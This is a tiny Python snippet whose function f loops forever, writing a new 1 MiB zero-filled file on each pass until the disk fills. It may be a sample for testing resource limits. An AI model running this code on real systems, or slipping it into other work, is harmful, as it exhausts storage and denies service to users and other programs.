import itertools


def f(x):
    for number in itertools.count():
        with open(f"file{number}", "wb") as file:
            file.write(bytes(1 << 20))
